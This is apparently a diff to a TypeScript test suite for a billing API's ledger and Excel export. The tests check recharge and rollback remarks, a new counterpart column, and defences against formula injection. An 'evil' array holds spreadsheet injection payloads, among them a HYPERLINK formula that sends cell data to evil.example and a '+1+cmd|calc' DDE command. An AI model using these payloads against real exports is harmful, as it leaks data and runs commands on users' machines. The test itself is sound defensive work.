@@ -47,7 +47,14 @@ describe.each(backends)('bills (%s)', (backend) => {
     expect(r.body.data.list.map((x: any) => x.id)).toEqual(ledger.map((l) => l.id));
     const [credit, recharge] = r.body.data.list;
     expect(credit).toMatchObject({ rownum: 1, financial_type: 0, financial_type_str: '入账', payment_type: 9, payment_type_str: '提升额度', amount_str: '1000.00', remark: '临时提额' });
-    expect(recharge).toMatchObject({ rownum: 2, financial_type: 1, financial_type_str: '出账', payment_type: 12, payment_type_str: '子账户充值', amount_str: '-10.25', order_id: 'ORD-own-1', admin_name: 'agent1', paymentId: '' });
+    // a recharge names the sub-account (its request id is a resubmit guard, not an order number: not shown)
+    expect(recharge).toMatchObject({ rownum: 2, financial_type: 1, financial_type_str: '出账', payment_type: 12, payment_type_str: '子账户充值', amount_str: '-10.25', order_id: '', counterpart: 'client1（苏州好易购电子商务有限公司）', remark: '子账户充值 client1（苏州好易购电子商务有限公司）', admin_name: 'agent1', paymentId: '' });
+    // the agent's own note follows the name; a rollback names the sub-account too
+    expect((await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '1.00', remark: '11月套餐' })).body.code).toBe(0);
+    expect((await agent1.post('/api/client/rollback', { clientId: 'client1', amount: '1.00' })).body.code).toBe(0);
+    const [back, noted] = (await agent1.post('/api/finance/bill/self', { currentPage: 1, pageRowCount: 2 })).body.data.list;
+    expect(noted).toMatchObject({ payment_type_str: '子账户充值', amount_str: '-1.00', remark: '子账户充值 client1（苏州好易购电子商务有限公司）：11月套餐' });
+    expect(back).toMatchObject({ payment_type_str: '子账户回退', amount_str: '1.00', counterpart: 'client1（苏州好易购电子商务有限公司）', remark: '子账户回退 client1（苏州好易购电子商务有限公司）' });
     // every row traceable: its id is a ledger row of this account with the same amount
     for (const row of r.body.data.list) expect(ledger.find((l) => l.id === row.id)?.amount).toBe(row.amount_str);
 
@@ -96,7 +103,7 @@ describe.each(backends)('bills (%s)', (backend) => {
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(r.raw.rawPayload as any);
     const ws = wb.worksheets[0];
-    expect((ws.getRow(1).values as string[]).slice(1)).toEqual(['序号', '流水编号', '收支类型', '业务类型', '金额(元)', '余额(元)', '订单号', '支付单号', '操作人', '备注', '时间']);
+    expect((ws.getRow(1).values as string[]).slice(1)).toEqual(['序号', '流水编号', '收支类型', '业务类型', '金额(元)', '余额(元)', '对方账户', '订单号', '支付单号', '操作人', '备注', '时间']);
     const expense = (await ledgerOf(server, 'agent1')).filter((l) => l.amount.startsWith('-'));
     expect(ws.rowCount - 1).toBe(expense.length);
     expect(ws.getRow(2).getCell(2).value).toBe(expense[0].id);
@@ -109,7 +116,7 @@ describe.each(backends)('bills (%s)', (backend) => {
     const { server } = t;
     const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|calc', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
     for (const [i, requestId] of evil.entries()) {
-      const rc = await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '0.01', requestId: `${requestId}${i}` });
+      const rc = await agent1.post('/api/client/recharge', { clientId: 'client1', amount: '0.01', requestId: `${requestId}${i}`, remark: requestId.trim() });
       expect(rc.body.code).toBe(0);
     }
     const r = await agent1.post('/api/finance/bill/self/export', { financial_type: 1 });
@@ -119,16 +126,20 @@ describe.each(backends)('bills (%s)', (backend) => {
     const ws = wb.worksheets[0];
     const orderIds: unknown[] = [];
     const amounts: unknown[] = [];
+    const remarks: unknown[] = [];
     ws.eachRow((row, n) => {
       if (n === 1) return;
-      orderIds.push(row.getCell(7).value);
+      orderIds.push(row.getCell(8).value);
       amounts.push(row.getCell(5).value);
+      remarks.push(row.getCell(11).value);
       // no cell is a formula
       row.eachCell((c) => expect(c.formula ?? null).toBeNull());
     });
     // (the form trims the order number: a leading tab / CR arrives as the formula behind it; safeCell quotes both, tests/server/export-cells.test.ts)
-    for (const [i, requestId] of evil.entries()) expect(orderIds).toContain(`'${requestId.trim()}${i}`);
-    expect(orderIds.some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
+    // a recharge's request id (the client's) is not an order number and is not written; its remark follows the sub-account's name
+    for (const [i, requestId] of evil.entries()) expect(orderIds).not.toContain(`'${requestId.trim()}${i}`);
+    for (const requestId of evil) expect(remarks).toContain(`子账户充值 client1（苏州好易购电子商务有限公司）：${requestId.trim()}`);
+    expect([...orderIds, ...remarks].some((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toBe(false);
     // negative amounts are numbers, not formulas: unchanged
     expect(amounts).toContain('-0.01');
     void server;
